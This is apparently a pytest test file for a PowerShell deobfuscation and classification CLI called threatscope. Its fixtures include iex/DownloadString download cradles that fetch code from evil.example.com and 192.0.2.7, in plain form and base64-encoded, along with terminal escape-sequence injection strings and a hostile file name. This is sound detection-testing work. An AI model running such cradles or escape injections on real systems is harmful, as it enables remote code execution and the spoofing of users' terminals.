"""``threatscope ps deobfuscate``: text and JSON output, --cmdline, and no raw control characters."""

import base64
import json

from click.testing import CliRunner

from threatscope.cli import main


def enc(script: str) -> str:
    return base64.b64encode(script.encode("utf-16-le")).decode()


def test_deobfuscate_file_text_and_json(tmp_path):
    f = tmp_path / "s.ps1"
    f.write_text("iex ('(New-Object Net.WebClient).DownloadString(''http://'+'evil.example.com/a'')')")
    r = CliRunner().invoke(main, ["ps", "deobfuscate", str(f)])
    assert r.exit_code == 0, r.output
    assert "layer 1: concat+iex" in r.output and "ioc url: http://evil.example.com/a" in r.output
    r = CliRunner().invoke(main, ["ps", "deobfuscate", "--json", str(f)])
    obj = json.loads(r.output)
    assert obj["final"] == "(New-Object Net.WebClient).DownloadString('http://evil.example.com/a')"
    assert obj["iocs"]["domains"] == ["evil.example.com"]
    assert set(obj) >= {"layers", "final", "iocs", "techniques", "truncated"}


def test_cmdline_one_result_per_line():
    lines = f"powershell -enc {enc('Write-Host one')}\n\npowershell -c Write-Host two\n"
    r = CliRunner().invoke(main, ["ps", "deobfuscate", "--cmdline", "--json", "-"], input=lines)
    assert r.exit_code == 0, r.output
    objs = [json.loads(line) for line in r.output.splitlines()]
    assert [o["final"] for o in objs] == ["Write-Host one", "Write-Host two"]
    assert objs[0]["techniques"] == ["encodedcommand"]


def test_control_characters_are_escaped():
    hostile = "iex (\"Write-Host `e]0;owned`a\" + [char]27 + '[2J' + [char]0x9b + [char]0x202e)"
    for args in (["ps", "deobfuscate", "-"], ["ps", "deobfuscate", "--json", "-"]):
        r = CliRunner().invoke(main, args, input=hostile)
        assert r.exit_code == 0, r.output
        assert not any(ch in r.output for ch in "\x1b\x07\x9b\u202e"), repr(r.output)
        assert "1b" in r.output  # shown, as an escape


def test_missing_file_is_one_line_error(tmp_path):
    r = CliRunner().invoke(main, ["ps", "deobfuscate", str(tmp_path / "nope.ps1")])
    assert r.exit_code != 0 and "Traceback" not in r.output


def test_classify_files_and_command_lines(tmp_path):
    plain = tmp_path / "plain.ps1"
    plain.write_text("Get-Service | Where-Object { $_.Status -eq 'Running' } | Select-Object Name\n")
    hidden = tmp_path / "hidden\x1b[2J.ps1"  # a hostile file name is shown escaped
    codes = ",".join(str(ord(c)) for c in "Write-Host pwned")
    hidden.write_text(f"iex ([string]::Join('', [char[]]({codes})))\n")
    r = CliRunner().invoke(main, ["ps", "classify", "--json", str(plain), str(hidden)])
    assert r.exit_code == 0, r.output
    objs = [json.loads(line) for line in r.output.splitlines()]
    assert [(o["file"], o["obfuscated"]) for o in objs] == [(str(plain), False), (str(hidden), True)]
    assert "char-codes" in objs[1]["techniques"] and 0 <= objs[0]["score"] <= 1
    r = CliRunner().invoke(main, ["ps", "classify", str(plain), str(hidden)])
    assert r.exit_code == 0 and "\x1b" not in r.output and "\\x1b" in r.output
    assert [line.split("\t")[1] for line in r.output.splitlines()] == ["plain", "obfuscated"]
    lines = f"powershell -enc {enc('Write-Host one')}\npowershell -c Get-Date\n"
    r = CliRunner().invoke(main, ["ps", "classify", "--cmdline", "--json", "-"], input=lines)
    objs = [json.loads(line) for line in r.output.splitlines()]
    assert [(o["file"], o["line"], o["obfuscated"]) for o in objs] == [
        ("-", 1, True), ("-", 2, False)]


def test_classify_names_the_family_of_what_it_recovered(tmp_path):
    cradle = "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/a.ps1')"
    lines = (f"powershell -nop -enc {enc(cradle)}\n"
             f"powershell -enc {enc(cradle.replace('IEX ', '$page = '))}\n")  # fetched, not run
    r = CliRunner().invoke(main, ["ps", "classify", "--cmdline", "--json", "-"], input=lines)
    assert r.exit_code == 0, r.output
    objs = [json.loads(line) for line in r.output.splitlines()]
    assert [(o["obfuscated"], o["family"]) for o in objs] == [(True, "downloader"), (True, None)]
    r = CliRunner().invoke(main, ["ps", "classify", "--cmdline", "-"], input=lines)
    assert [line.split("\t")[3] for line in r.output.splitlines()] == ["downloader", "-"]
